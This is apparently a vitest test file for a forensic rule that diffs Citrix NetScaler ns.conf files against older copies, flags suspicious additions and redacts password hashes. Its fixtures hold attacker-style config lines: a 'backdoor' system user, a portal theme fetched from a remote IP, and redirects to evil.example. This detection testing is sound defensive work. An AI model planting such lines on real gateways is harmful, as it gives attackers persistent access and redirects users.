import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { corpus } from '../../test/support/corpora.js';
import { memoryTree } from './artefact-model.js';
import { diffNsConf, redactNsConfLine } from './nsconf-diff-rule.js';

const hash = 'a9de86d10286a181796e1d95235dc0c9fe3a96fcc331cc959fa9dd7660e5612023b5b0c9d2c099223cf353265f44cf098f0beeca05ebe21af7559a4d6b2dd36d5';

const base = ['#NS14.1 Build 43.50', 'set ns config -IPAddress 192.0.2.10 -netmask 255.255.255.0', `add system user nsroot2 ${hash.replace('a', 'b')} -encrypted`, 'add vpn vserver gw SSL 192.0.2.20 443'];

describe('diffNsConf (R20)', () => {
  it('reports added lines of the R20 kinds with their line in the current file', async () => {
    const current = [
      ...base,
      `add system user backdoor ${hash} -encrypted -encryptmethod ENCMTHD_3 -hashmethod SHA512`,
      'add aaa user alice -password 0123abcd -encrypted',
      'add vpn portaltheme EvilTheme -basetheme RfWebUI -source http://198.51.100.7/t.tgz',
      'set vpn vserver gw -portaltheme EvilTheme',
      'add responder action ra1 redirect "\\"https://evil.example/\\"" -responseStatusCode 302',
      'add rewrite policy rp1 "HTTP.REQ.URL.CONTAINS(\\"http://x.example\\")" rw1',
      'set vpn parameter -clientlessVpnMode ON -clientlessAccess ON -forceCleanup ON',
      'add vpn sessionAction sa1 -redirURL http://evil.example/ -transparentInterception OFF',
      'add lb vserver web HTTP 192.0.2.30 80',
    ].join('\n');
    const tree = memoryTree('ns', [
      { path: '/nsconfig/ns.conf', content: current, mtime: new Date('2025-07-02T00:00:00Z') },
      { path: '/nsconfig/ns.conf.0', content: base.join('\n') },
      { path: '/nsconfig/ns.conf.1', content: current },
    ]);
    const found = await diffNsConf(tree);
    expect(found.map((f) => [f.line, f.rationale.split(':')[0]])).toEqual([
      [5, 'new system user'],
      [6, 'new AAA user'],
      [7, 'portal theme loaded from a URL'],
      [8, 'non-stock portal theme'],
      [9, 'responder/rewrite with a URL'],
      [10, 'responder/rewrite with a URL'],
      [11, 'clientless VPN mode on, clientless access on, force cleanup on'],
      [12, 'redirect URL over http'],
    ]);
    expect(found.every((f) => f.verdict === 'REVIEW' && f.confidence === 'medium' && f.rationale.includes('added since /nsconfig/ns.conf.0'))).toBe(true);
    expect(found[0]?.excerpt).toBe('add system user backdoor <redacted> -encrypted -encryptmethod ENCMTHD_3 -hashmethod SHA512');
    expect(found[1]?.excerpt).toBe('add aaa user alice -password <redacted> -encrypted');
    for (const f of found) expect(`${f.excerpt} ${f.rationale}`).not.toMatch(/a9de86d1|0123abcd/);
  });

  it('treats a changed password hash of an existing user as no new user', async () => {
    const tree = memoryTree('ns', [
      { path: '/flash/nsconfig/ns.conf', content: `add system user ops ${hash} -encrypted` },
      { path: '/flash/nsconfig/ns.conf.NS14.1-43.50', content: `add system user ops ${hash.replace(/a/g, 'c')} -encrypted` },
    ]);
    expect(await diffNsConf(tree)).toEqual([]);
  });

  it('without an older copy reports the same kinds as low confidence, redacted', async () => {
    const tree = memoryTree('ns', [{ path: '/flash/nsconfig/ns.conf', content: `add system user ops ${hash} -encrypted\nset vpn parameter -clientlessAccess ON` }]);
    const found = await diffNsConf(tree);
    expect(found.map((f) => [f.line, f.confidence, f.excerpt])).toEqual([
      [1, 'low', 'add system user ops <redacted> -encrypted'],
      [2, 'low', 'set vpn parameter -clientlessAccess ON'],
    ]);
    expect(found[0]?.rationale).toContain('no earlier copy to compare');
  });

  it('picks the newest older copy: lowest ns.conf.N, else the newest ns.conf.NS<build>', async () => {
    const add = 'set vpn parameter -forceCleanup ON';
    const tree = memoryTree('ns', [
      { path: '/nsconfig/ns.conf', content: add },
      { path: '/nsconfig/ns.conf.NS13.1-58.32', content: add, mtime: new Date('2025-07-01T00:00:00Z') },
      { path: '/nsconfig/ns.conf.NS13.1-49.13', content: '', mtime: new Date('2024-01-01T00:00:00Z') },
    ]);
    expect(await diffNsConf(tree)).toEqual([]);
    const rotated = memoryTree('ns', [
      { path: '/nsconfig/ns.conf', content: add },
      { path: '/nsconfig/ns.conf.2', content: add },
      { path: '/nsconfig/ns.conf.1', content: '' },
    ]);
    expect((await diffNsConf(rotated)).map((f) => f.rationale)).toEqual(['force cleanup on: added since /nsconfig/ns.conf.1']);
  });

  it('redacts hashes and secret option values', () => {
    expect(redactNsConfLine(`set system user nsroot ${hash} -encrypted`)).toBe('set system user nsroot <redacted> -encrypted');
    expect(redactNsConfLine('add authentication ldapAction l1 -ldapBindDnPassword "s3cr et" -encrypted')).toBe('add authentication ldapAction l1 -ldapBindDnPassword <redacted> -encrypted');
    expect(redactNsConfLine('add authentication radiusAction r1 -radKey abc')).toBe('add authentication radiusAction r1 -radKey <redacted>');
  });

  it('compares the dissect.target ns.conf with its ns.conf.0: no user was added, hashes never printed (corpus)', async () => {
    const dir = corpus('netscaler', 'dissect-target', 'tests', '_data', 'plugins', 'os', 'unix', 'bsd', 'citrix', '_os', 'flash', 'nsconfig');
    const current = readFileSync(`${dir}/ns.conf`);
    const tree = memoryTree('ns', [
      { path: '/flash/nsconfig/ns.conf', content: current },
      { path: '/flash/nsconfig/ns.conf.0', content: readFileSync(`${dir}/ns.conf.0`) },
    ]);
    expect(await diffNsConf(tree)).toEqual([]);
    const alone = await diffNsConf(memoryTree('ns', [{ path: '/flash/nsconfig/ns.conf', content: current }]));
    expect(alone.map((f) => f.excerpt)).toEqual(['add system user batman <redacted> -encrypted', 'add system user root <redacted> -encrypted', 'add system user robin <redacted> -encrypted']);
    expect(alone.map((f) => f.line)).toEqual([9, 10, 11]);
  });
});
